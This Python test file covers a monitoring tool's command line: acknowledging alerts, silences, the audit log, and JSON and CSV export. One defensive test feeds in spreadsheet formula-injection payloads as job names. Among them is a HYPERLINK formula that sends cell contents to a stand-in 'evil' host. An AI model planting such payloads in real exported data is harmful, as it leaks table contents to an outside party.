"""The commands by which people answer alerts: what they change, who they say did it, and what they print."""

from __future__ import annotations

import csv
import dataclasses
import getpass
import io
import json
import logging
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anyio
import pytest
from click.testing import CliRunner, Result

from runai_monitor.cli import main
from runai_monitor.model.alert import Alert, AlertSubject, Change, Severity
from runai_monitor.model.audit import ITSELF
from runai_monitor.model.diagnosis import Cause, Diagnosis, Verdict
from runai_monitor.store.alerts import AlertStore
from runai_monitor.store.database import open_database
from tests.factories import make_transition
from tests.fakes import EPOCH

ME = getpass.getuser()


class Commands:
    """Runs commands on one state, in an empty folder."""

    def __init__(self, folder: Path) -> None:
        self.state_dir = folder / "state"

    def __call__(self, *arguments: str, code: int = 0, **environ: str) -> Result:
        environment = {"RUNAI_MONITOR_STATE_DIR": str(self.state_dir), "COLUMNS": "80", **environ}
        result = CliRunner(env=environment).invoke(main, list(arguments), prog_name="runai-monitor")
        assert "Traceback" not in result.output
        assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
        assert result.exit_code == code, result.output
        return result

    def json(self, *arguments: str, **environ: Any) -> Any:
        return json.loads(self(*arguments, "--json", **environ).stdout)

    def store(self, *names: str, **fields: Any) -> list[Alert]:
        """Opens alerts."""

        async def apply() -> list[Alert]:
            database = await open_database(state_dir=self.state_dir)
            try:
                return await AlertStore(database).apply(
                    [make_transition(name, **fields) for name in names], channels=["slack"]
                )
            finally:
                await database.aclose()

        return anyio.run(apply)


@pytest.fixture
def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Commands]:
    monkeypatch.chdir(tmp_path)
    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    yield Commands(tmp_path)
    root.handlers[:] = handlers
    root.setLevel(level)


# --- acknowledge ------------------------------------------------------------------------------------------------


def test_whoever_sits_at_the_terminal_takes_care_of_it(run: Commands) -> None:
    """One command at 3 a.m., and everybody knows who is up."""
    (alert,) = run.store("llama-sft")
    said = run("acknowledge", alert.alert_id, "--note", "raising the limit").stdout
    assert f"Acknowledged by {ME}: no more reminders." in said
    assert all(len(line) <= 80 for line in said.splitlines())
    assert f"Acknowledged already, by {ME}" in run("acknowledge", alert.alert_id, "--author", "ben").stdout
    found = run.json("acknowledge", alert.alert_id)
    assert (found["changed"], found["alert"]["state"], found["alert"]["acknowledged_by"]) == (False, "acknowledged", ME)
    assert [one["alert_id"] for one in run.json("alerts", "--state", "acknowledged")] == [alert.alert_id]
    assert f"acknowledged by {ME}" in run("alerts").stdout
    run.store("llama-sft", change=Change.RESOLVED)
    assert "Nothing to acknowledge: it was resolved" in run("acknowledge", alert.alert_id).stdout


def test_what_cannot_be_acknowledged_is_refused_in_words(run: Commands) -> None:
    """A wrong id, a wrong folder, another team's alert."""
    assert "nothing was ever stored" in run("acknowledge", "al-1", code=2).stderr
    assert not run.state_dir.exists(), "and looking creates nothing"
    (alert,) = run.store("llama-sft")
    assert "there is no alert" in run("acknowledge", "al-1", code=2).stderr
    other = run("acknowledge", alert.alert_id, code=2, RUNAI_MONITOR_MONITORED_PROJECTS="vision")
    assert "there is no alert" in other.stderr


# --- silence ----------------------------------------------------------------------------------------------------


def test_a_silence_is_added_listed_and_expired(run: Commands) -> None:
    """The whole life of one, as people read it and as scripts do."""
    run.store("llama-sft", "llama-rl")
    run.store("whisper", project="speech")
    added = run(
        "silence", "add", "project=ml-team", "workload=~llama-.*", "--duration", "2h", "--reason", "upgrade"
    ).stdout
    assert added.split()[0] == "active"
    assert 'project="ml-team", workload=~"llama-.*"' in added
    assert f"upgrade ({ME})" in added
    assert "open alerts that it matches now: 2 (llama-sft, llama-rl)" in added
    assert all(len(line) <= 80 for line in added.splitlines())
    (listed,) = run.json("silence", "list")
    assert (listed["state"], listed["matches_now"], len(listed["alert_ids"])) == ("active", 2, 2)
    assert listed["silence_id"] in run("silence", "list").stdout
    expired = run("silence", "expire", listed["silence_id"], "--author", "ben").stdout
    assert "ended early by ben" in expired
    assert run("silence", "list").stdout == "No stored silence matches.\n"
    assert [one["expired_by"] for one in run.json("silence", "list", "--state", "expired")] == ["ben"]
    made = run.json("silence", "add", "project=speech", "--duration", "1d12h", "--reason", "r", "--author", "carla")
    assert (made["author"], made["matches_now"]) == ("carla", 1)


def test_on_a_new_state_every_list_is_empty_and_says_why(run: Commands) -> None:
    """A script that reads all of them must not stop at one; and a mistyped folder must not read as a quiet night."""
    for command, nothing in {
        ("alerts",): "No stored alert matches.",
        ("audit",): "No recorded action matches.",
        ("deliveries",): "No stored delivery matches.",
        ("silence", "list"): "No stored silence matches.",
    }.items():
        said = run(*command)
        assert said.stdout == f"{nothing}\n"
        assert "nothing was ever stored" in said.stderr
        assert run.json(*command) == []
    assert not run.state_dir.exists(), "and looking creates nothing"


@pytest.mark.parametrize(
    ("arguments", "told"),
    [
        (("project=ml-team", "--reason", "r"), "a silence must end"),
        (("project=ml-team", "--reason", "r", "--duration", "1h", "--until", "2999-01-01"), "a silence must end"),
        (("project=ml-team", "--duration", "1h"), "--reason"),
        (("--duration", "1h", "--reason", "r"), "--everything"),
        (("projct=a", "--duration", "1h", "--reason", "r"), "did you mean project?"),
        (("workload=~(", "--duration", "1h", "--reason", "r"), "no regular expression"),
        (("project=ml-team", "--duration", "31d", "--reason", "r"), "at most 30 days"),
    ],
)
def test_a_silence_that_is_a_mistake_is_refused(run: Commands, arguments: tuple[str, ...], told: str) -> None:
    """Without an end, without a reason, for everybody, or for nothing."""
    run.store("llama-sft")
    assert told in run("silence", "add", *arguments, code=2).stderr
    assert run.json("silence", "list") == []


def test_a_limited_configuration_silences_its_projects_only(run: Commands) -> None:
    """`monitored_projects` holds for the command line too."""
    run.store("llama-sft")
    limit = {"RUNAI_MONITOR_MONITORED_PROJECTS": "vision,speech"}
    wide = ("--duration", "1h", "--reason", "r")
    assert "monitored_projects" in run("silence", "add", "project=ml-team", *wide, code=2, **limit).stderr
    made = run.json("silence", "add", "status=OOMKilled", *wide, **limit)
    assert made["matchers"] == ['status="OOMKilled"', 'project=~"vision|speech"']
    assert made["matches_now"] == 0
    everybodys = run.json("silence", "add", "status=OOMKilled", *wide)
    assert "also concerns projects" in run("silence", "expire", everybodys["silence_id"], code=2, **limit).stderr


# --- audit ------------------------------------------------------------------------------------------------------


def test_the_audit_shows_who_did_what_and_narrows(run: Commands) -> None:
    """The morning after: who silenced this, and who took care of that?"""
    (alert,) = run.store("llama-sft")
    run("acknowledge", alert.alert_id, "--author", "anna", "--note", "on it")
    made = run.json("silence", "add", "project=ml-team", "--duration", "1h", "--reason", "upgrade", "--author", "ben")
    entries = run.json("audit")
    assert [(entry["author"], entry["action"], entry["target"]) for entry in entries] == [
        ("ben", "silence_created", made["silence_id"]),
        ("anna", "alert_acknowledged", alert.alert_id),
        (ITSELF, "alert_changed", alert.alert_id),
    ]
    assert "upgrade" in entries[0]["detail"]
    assert entries[2]["at"] == "2026-03-01T03:00:00Z"
    assert run.json("audit", "--author", "ANNA") == entries[1:2]
    assert run.json("audit", "--action", "alert_changed") == entries[2:]
    assert run.json("audit", "--target", alert.alert_id) == entries[1:]
    assert run.json("audit", "--since", "2026-03-02") == entries[:2]
    assert run.json("audit", "--limit", "1") == entries[:1]
    text = run("audit").stdout
    assert f"alert_acknowledged  {alert.alert_id}  by anna" in text
    assert "acknowledged by anna: on it" in text
    assert run("audit", "--author", "nobody").stdout == "No recorded action matches.\n"
    assert "action must be one of" in run("audit", "--action", "slept", code=2).stderr


# --- alerts: filters, JSON and CSV ------------------------------------------------------------------------------


def diagnosed(cause: str) -> Diagnosis:
    found = Cause(cause=cause, title="t", confidence=0.97, explanation="e")
    return Diagnosis(verdict=Verdict.FAILURE, confidence=0.97, generated_at=EPOCH, causes=(found,))


def names(run: Commands, *filters: str) -> list[str]:
    return [alert["workload"]["name"] for alert in run.json("alerts", *filters)]


def test_alerts_are_narrowed_by_what_they_say(run: Commands) -> None:
    """Alone and together; what matches counts against the limit, not what was looked at."""
    run.store("a", status="OOMKilled", diagnosis=diagnosed("container_oom"))
    run.store("b", status="Pending", severity=Severity.WARNING)
    run.store("c", status="OOMKilled", diagnosis=diagnosed("node_oom"))
    assert names(run, "--status", "OOMKilled") == ["c", "a"]
    assert names(run, "--cause", "container_oom") == ["a"]
    assert names(run, "--severity", "warning") == ["b"]
    assert names(run, "--kind", "workload_unhealthy", "--workload", "b") == ["b"]
    assert names(run, "--workload", "id-c") == ["c"]
    assert names(run, "--kind", "monitor_blind") == []
    assert names(run, "--until", "2026-03-01T02:00:00Z") == []
    assert names(run, "--since", "2026-03-01", "--until", "2026-03-02") == ["c", "b", "a"]
    assert names(run, "--status", "OOMKilled", "--limit", "1") == ["c"]
    assert "kind must be one of" in run("alerts", "--kind", "job", code=2).stderr


def test_all_alerts_are_printed_as_one_json_array_however_many(run: Commands) -> None:
    """An export of a year must not need the memory of a year, and is one document all the same."""
    run.store(*(f"job-{number}" for number in range(120)))
    assert len(run.json("alerts")) == 50
    found = run.json("alerts", "--all")
    assert [alert["workload"]["name"] for alert in found] == [f"job-{number}" for number in reversed(range(120))]
    assert run("alerts", "--json").stdout == json.dumps(found[:50], indent=2, ensure_ascii=False) + "\n"


def test_a_reader_that_has_seen_enough_ends_the_command_quietly(run: Commands) -> None:
    """`| head` is no failure of the database; and a full disk is one of the output, said so."""
    run.store(*(f"job-{number}" for number in range(120)))
    environment = {**os.environ, "RUNAI_MONITOR_STATE_DIR": str(run.state_dir)}
    for arguments in (("alerts", "--all", "--json"), ("alerts", "--all", "--csv"), ("audit", "--all")):
        command = [sys.executable, "-m", "runai_monitor", *arguments]
        reading, writing = os.pipe()
        os.close(reading)
        try:
            done = subprocess.run(command, stdout=writing, stderr=subprocess.PIPE, env=environment, check=False)
        finally:
            os.close(writing)
        assert (done.returncode, done.stderr) == (141, b""), arguments
    if Path("/dev/full").exists():
        with Path("/dev/full").open("wb") as full:
            done = subprocess.run(command, stdout=full, stderr=subprocess.PIPE, env=environment, check=False)
        assert (done.returncode, done.stderr) == (
            1,
            b"runai-monitor: the output cannot be written (No space left on device)\n",
        )


def test_csv_is_read_by_a_spreadsheet_as_it_was_written(run: Commands) -> None:
    """RFC 4180: a header, CRLF, quotes where they must be; and each alert a row."""
    (alert,) = run.store('llama, "sft"', summary='it said "no",\nand died', diagnosis=diagnosed("container_oom"))
    raw = run("alerts", "--csv").stdout_bytes
    assert raw.count(b"\r\n") == raw.count(b"\n") == 2
    (row,) = csv.DictReader(io.StringIO(raw.decode(), newline=""))
    assert row["alert_id"] == alert.alert_id
    assert row["workload"] == 'llama, "sft"'
    assert row["summary"] == 'it said "no", and died'
    assert (row["cause"], row["confidence"], row["state"]) == ("container_oom", "0.97", "firing")
    assert (row["started_at"], row["acknowledged_by"], row["gpus"]) == ("2026-03-01T03:00:00Z", "", "")
    assert "exclude each other" in run("alerts", "--csv", "--json", code=2).stderr
    assert run("alerts", "--csv", "--status", "Pending").stdout_bytes.count(b"\n") == 1, "the header alone"


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://evil/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "\u200b=1", "＝1", "\n\n@x"],
)
def test_no_cell_is_a_formula(run: Commands, name: str) -> None:
    """Whoever submits a job chooses its name; opened in a spreadsheet, a formula sends the table elsewhere."""
    subject = AlertSubject(id="id-x", name=name, project="ml-team", submitted_by=name, nodes=(name,))
    transition = make_transition("x", status=name, summary=name, recommendations=(name,))
    run.store(
        "x",
        **{
            field: getattr(dataclasses.replace(transition, subject=subject), field)
            for field in ("subject", "status", "summary", "recommendations")
        },
    )
    (row,) = csv.reader(io.StringIO(run("alerts", "--csv").stdout_bytes.decode().split("\r\n", 1)[1], newline=""))
    assert not [cell for cell in row if cell.lstrip().startswith(tuple("=+-@＝＋－＠"))]
    assert sum(cell.startswith("'") for cell in row) >= 5
